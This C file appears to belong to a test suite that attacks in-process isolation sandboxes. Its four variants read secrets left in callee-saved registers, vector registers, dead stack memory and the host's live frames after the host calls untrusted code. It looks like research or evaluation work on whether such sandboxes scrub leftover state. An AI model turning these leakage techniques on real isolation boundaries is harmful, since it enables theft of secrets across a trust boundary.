/* D3: what the host leaves behind when it calls foreign code: registers that compilers
 * keep across calls, vector registers, dead frames below the stack pointer.
 *
 * The host puts the secret there as any computation does (host() before again(), or
 * the caller itself, ATTACK_LEFTOVERS); the attack looks before anything else has run.
 *
 * Source: [PKU Pitfalls], [Donky] for scrubbing.
 */
#include <string.h>
#include "attack.h"

#define DEAD_BYTES 8192
#define BELOW_BYTES 6144

static void nothing(void) {}

/* The host computes with all vector registers that no call has to save. */
static void __attribute__((noinline)) use_vectors(void) {
    __asm__ volatile("movups (%0), %%xmm8\n\tmovups 16(%0), %%xmm9\n\tmovups 32(%0), %%xmm10\n\t"
                     "movups 48(%0), %%xmm11"
                     :
                     : "r"(target.secret)
                     : "xmm8", "xmm9", "xmm10", "xmm11", "memory");
}

static void take_vectors(void) {
    unsigned char found[64];
    __asm__ volatile("movups %%xmm8, (%0)\n\tmovups %%xmm9, 16(%0)\n\tmovups %%xmm10, 32(%0)\n\t"
                     "movups %%xmm11, 48(%0)"
                     :
                     : "r"(found)
                     : "memory");
    attack_hand_in(found, sizeof found);
}

/* The host's caller has the secret in a register that every callee gives back. */
static void __attribute__((noinline)) take_registers(void) {
    uint64_t found[6];
    __asm__ volatile("mov %%rbx, (%0)\n\tmov %%rbp, 8(%0)\n\tmov %%r12, 16(%0)\n\tmov %%r13, 24(%0)\n\t"
                     "mov %%r14, 32(%0)\n\tmov %%r15, 40(%0)"
                     :
                     : "r"(found)
                     : "memory");
    attack_hand_in(found, sizeof found);
}

/* A local copy in a frame that has returned. */
static void __attribute__((noinline)) use_stack(void) {
    unsigned char copy[DEAD_BYTES];
    for (size_t at = 0; at + SECRET_BYTES <= sizeof copy; at += SECRET_BYTES)
        for (int i = 0; i < SECRET_BYTES; i++) copy[at + i] = target.secret[i];
    __asm__ volatile("" : : "r"(copy) : "memory");
}

static void take_stack(void) {
    static unsigned char found[BELOW_BYTES];
    const volatile unsigned char *top = (const volatile unsigned char *)__builtin_frame_address(0) - 256;
    for (int i = 0; i < BELOW_BYTES; i++) found[i] = top[i - BELOW_BYTES];
    attack_hand_in(found, sizeof found);
}

/* The frames of the host itself, above the gate: around its return address. */
static void take_frames(void) {
    static unsigned char found[512];
    const volatile unsigned char *at = (const volatile unsigned char *)target.return_slot - sizeof found;
    for (int i = 0; i < (int)sizeof found; i++) found[i] = at[i];
    attack_hand_in(found, sizeof found);
}

const struct attack attacks[] = {
    {.variant = "vector-registers", .attack = nothing, .host = use_vectors, .again = take_vectors},
    {.variant = "general-registers", .attack = take_registers, .flags = ATTACK_LEFTOVERS},
    {.variant = "dead-stack", .attack = nothing, .host = use_stack, .again = take_stack},
    {.variant = "live-frames", .attack = take_frames, .flags = ATTACK_LEFTOVERS},
    {0},
};
